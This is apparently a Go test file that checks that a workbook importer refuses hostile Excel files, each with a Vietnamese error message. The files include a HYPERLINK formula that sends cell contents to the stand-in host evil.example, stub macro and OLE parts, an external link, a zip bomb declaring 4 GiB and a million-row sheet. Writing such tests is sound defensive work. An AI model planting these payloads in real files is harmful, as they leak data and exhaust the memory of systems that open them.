package factfile_test

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"runtime"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"antq"
	"antq/factfile"
	"antq/store"
	"antq/store/storetest"
)

// rezip copies a workbook's parts, letting edit replace or drop a part
// (return nil) and add adds more.
func rezip(t *testing.T, data []byte, edit func(name string, body []byte) []byte, add func(w *zip.Writer)) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		if edit != nil {
			if body = edit(f.Name, body); body == nil {
				continue
			}
		}
		w, err := zw.Create(f.Name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(body)
	}
	if add != nil {
		add(zw)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestTemplateHostileWorkbooks: formulas, macros, external links,
// embedded objects, a zip bomb and a million rows are refused before any
// row is written, within bounded memory, with a Vietnamese reason.
func TestTemplateHostileWorkbooks(t *testing.T) {
	storetest.EachEngine(t, func(t *testing.T, e store.Engine) {
		db, ctx := open(t, e)
		tpl := template(t, db, ctx, "25195")

		formula := openBook(t, tpl)
		row := formula.row("Tuyên truyền", "25195", false)
		cell := formula.cellOf("Tuyên truyền", "Số đã được tuyên truyền", row)
		if err := formula.f.SetCellFormula("Tuyên truyền", cell, `HYPERLINK("http://evil.example/?"&A1,"x")`); err != nil {
			t.Fatal(err)
		}
		addPart := func(name, body string) func(w *zip.Writer) {
			return func(w *zip.Writer) {
				f, _ := w.Create(name)
				f.Write([]byte(body))
			}
		}
		million := func(w *zip.Writer) {
			f, _ := w.Create("xl/worksheets/sheet99.xml")
			io.WriteString(f, `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`)
			for i := 1; i <= 1_000_000; i++ {
				fmt.Fprintf(f, `<row r="%d"><c r="A%d"><v>1</v></c></row>`, i, i)
			}
			io.WriteString(f, `</sheetData></worksheet>`)
		}
		bomb := func(w *zip.Writer) {
			// A part that declares 4 GiB: refused from the directory alone.
			f, _ := w.CreateRaw(&zip.FileHeader{Name: "xl/media/image1.png", Method: zip.Deflate,
				CompressedSize64: 2, UncompressedSize64: 4 << 30, CRC32: 0})
			f.Write([]byte{3, 0})
		}
		cases := []struct {
			name string
			data []byte
			why  string
		}{
			{"formula", formula.bytes(), "Ô Tuyên truyền!" + cell + " chứa công thức"},
			{"macro", rezip(t, tpl, nil, addPart("xl/vbaProject.bin", "VBA")), "macro"},
			{"macro-enabled", rezip(t, tpl, func(name string, b []byte) []byte {
				if name == "[Content_Types].xml" {
					return bytes.Replace(b, []byte("spreadsheetml.sheet.main+xml"), []byte("sheet.macroEnabled.main+xml"), 1)
				}
				return b
			}, nil), "macro"},
			{"external link", rezip(t, tpl, nil, addPart("xl/externalLinks/externalLink1.xml", "<externalLink/>")), "liên kết"},
			{"embedded object", rezip(t, tpl, nil, addPart("xl/embeddings/oleObject1.bin", "OLE")), "nhúng"},
			{"zip bomb", rezip(t, tpl, nil, bomb), "giải nén"},
			{"million rows", rezip(t, tpl, nil, million), "hơn 50000 dòng"},
			{"not a workbook", []byte("level,code\nx,y\n"), "không phải sổ tính"},
			{"not a template", plainBook(t), "không phải mẫu nhập số liệu"},
		}
		for _, c := range cases {
			var before, after runtime.MemStats
			runtime.GC()
			runtime.ReadMemStats(&before)
			rep, err := factfile.Import(ctx, db, planID, c.data, true, factfile.Options{})
			runtime.ReadMemStats(&after)
			if err == nil {
				t.Errorf("%s: imported (%s); want refused", c.name, counts(rep))
				continue
			}
			if antq.ErrorCode(err) != antq.EINVALID || !strings.Contains(antq.ErrorMessage(err), c.why) {
				t.Errorf("%s: %v; want a refusal with %q", c.name, err, c.why)
			}
			if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 512<<20 {
				t.Errorf("%s: allocated %d MiB to refuse it", c.name, alloc>>20)
			}
		}
		if _, f, err := db.UnitFacts(ctx, planID, "25195"); err != nil || f.Propaganda != nil || f.Registration != nil {
			t.Fatalf("a hostile workbook wrote facts: %+v %v", f, err)
		}
	})
}

// plainBook is a workbook with a sheet named like a template's, and no
// identifying sheet.
func plainBook(t *testing.T) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	f.SetSheetName("Sheet1", "Đăng ký")
	f.SetCellStr("Đăng ký", "A1", "Mã đơn vị")
	f.SetCellStr("Đăng ký", "A2", "25195")
	var buf bytes.Buffer
	if _, err := f.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}
